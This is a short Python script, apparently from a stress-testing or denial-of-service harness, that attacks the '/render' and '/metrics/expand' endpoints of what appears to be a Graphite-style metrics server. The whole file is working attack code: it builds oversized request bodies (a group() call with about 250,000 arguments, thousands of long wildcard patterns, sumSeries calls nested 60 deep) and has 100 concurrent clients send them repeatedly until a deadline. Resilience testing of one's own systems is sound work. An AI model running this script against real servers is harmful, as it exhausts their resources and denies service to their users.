"""Large forms for /render and /metrics/find: trees of arguments, patterns of many nodes."""
from swarm import READ, Swarm, form

LENGTH = 500_000
TREE = "target=group(" + "a," * (LENGTH // 2) + "a)"
PATTERNS = "&".join("target=" + "a." * 4000 + "*" for _ in range(LENGTH // 8100))
NESTED = "&".join("target=" + "sumSeries(" * 60 + "a" + ")" * 60 for _ in range(LENGTH // 730))


def attack(target, deadline):
    bodies = [form("/render", TREE), form("/render", PATTERNS), form("/render", NESTED),
              form("/metrics/expand", PATTERNS.replace("target=", "query="))]

    def script(number):
        while True:
            yield bodies[number % len(bodies)]
            yield READ
    Swarm(target.http, 100, script, addresses=target.addresses).run(deadline)
